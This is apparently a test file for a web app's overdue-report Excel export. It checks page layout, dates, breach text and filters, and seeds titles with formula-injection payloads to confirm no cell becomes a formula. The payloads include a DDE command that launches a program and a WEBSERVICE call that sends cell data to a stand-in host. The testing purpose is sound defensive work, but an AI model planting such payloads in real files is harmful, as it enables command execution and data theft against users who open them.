import exceljs from 'exceljs';
import { openApi, type TestApi } from '../support/api.js';

/** What a spreadsheet would run, fetch or send if a text became a formula, a command or a link. */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', "'="];
const DEEDS = ['1+1', 'HYPERLINK("http://x.example","y")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example/"&A1)'];
const PAYLOADS = STARTS.flatMap((start) => DEEDS.map((deed) => `${start}${deed}`));

describe('the overdue report as a workbook', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await openApi();
    await api.db.setNow('2026-10-07T05:00:00Z');
  });
  afterAll(() => api.close());

  const workbook = async (query = ''): Promise<exceljs.Workbook> => {
    const deputy = await api.as((await api.build.seat('deputy')).personId);
    const answer = await api.app.inject({
      method: 'GET',
      url: `/api/v1/overdue.xlsx${query}`,
      headers: { cookie: deputy.cookie! },
    });
    expect([answer.statusCode, answer.headers['content-disposition']]).toEqual([
      200,
      expect.stringContaining('.xlsx"'),
    ]);
    const book = new exceljs.Workbook();
    await book.xlsx.load(answer.rawPayload as unknown as ArrayBuffer);
    return book;
  };

  it('has the totals of the screen, one row for each late checkpoint, and no cell that computes', async () => {
    for (const [index, payload] of PAYLOADS.entries()) {
      const item = await api.build.item({ dueOn: '2026-09-30', state: 'in_work', number: `${index + 1}` });
      await api.db.owner('UPDATE action_item SET title_ru = $2 WHERE id = $1', [item.itemId, payload]);
    }
    const book = await workbook();
    const [totals, list] = book.worksheets;
    const deputy = await api.as((await api.build.seat('deputy')).personId);
    const { body } = await deputy.get('overdue');
    expect(body.totals.total).toBe(PAYLOADS.length);
    expect(PAYLOADS).toHaveLength(40);
    for (const sheet of [totals!, list!]) {
      expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', printTitlesRow: '6:6' });
      expect(sheet.views).toMatchObject([{ state: 'frozen', ySplit: 6 }]);
    }
    const titles: unknown[] = [];
    list!.eachRow((row, number) => {
      if (number > 6) titles.push(row.getCell(3).value);
      row.eachCell((cell) => {
        expect([exceljs.ValueType.String, exceljs.ValueType.Number]).toContain(cell.type);
        expect(cell.numFmt).toBe(cell.type === exceljs.ValueType.String && number > 6 ? '@' : cell.numFmt);
      });
    });
    const asXmlReads = (text: string): string => text.replace(/\r/g, '\n');
    expect(titles.map(String).sort()).toEqual(PAYLOADS.map(asXmlReads).sort());
  });

  it('U2 has the day it was handed in and the breaches beside the two dates', async () => {
    const body = await api.build.body();
    const late = await api.build.item({ dueOn: '2026-09-30', state: 'returned', number: '7', lead: body });
    await api.db.owner('UPDATE checkpoint SET returns = 1 WHERE id = $1', [late.checkpointId]);
    const list = (await workbook(`?bodyId=${body.bodyId}`)).worksheets[1]!;
    const titles = (list.getRow(6).values as unknown[]).slice(1);
    const cells = (list.getRow(7).values as unknown[]).slice(1);
    const of = (title: string): unknown => cells[titles.indexOf(title)];
    expect([of('Первоначальный срок'), of('Срок'), of('Фактически сдано') ?? '']).toEqual([
      '30.09.2026',
      '30.09.2026',
      '',
    ]);
    expect(of('Нарушения')).toBe('информация после срока; отчёт возвращён');
  });

  it('says which filters it was made under and leaves the rest out', async () => {
    const other = await api.build.body();
    const book = await workbook(`?bodyId=${other.bodyId}`);
    expect(String(book.worksheets[0]!.getRow(4).getCell(1).value)).toContain('Исполнитель: ');
    expect(book.worksheets[1]!.rowCount).toBe(6);
  });
});
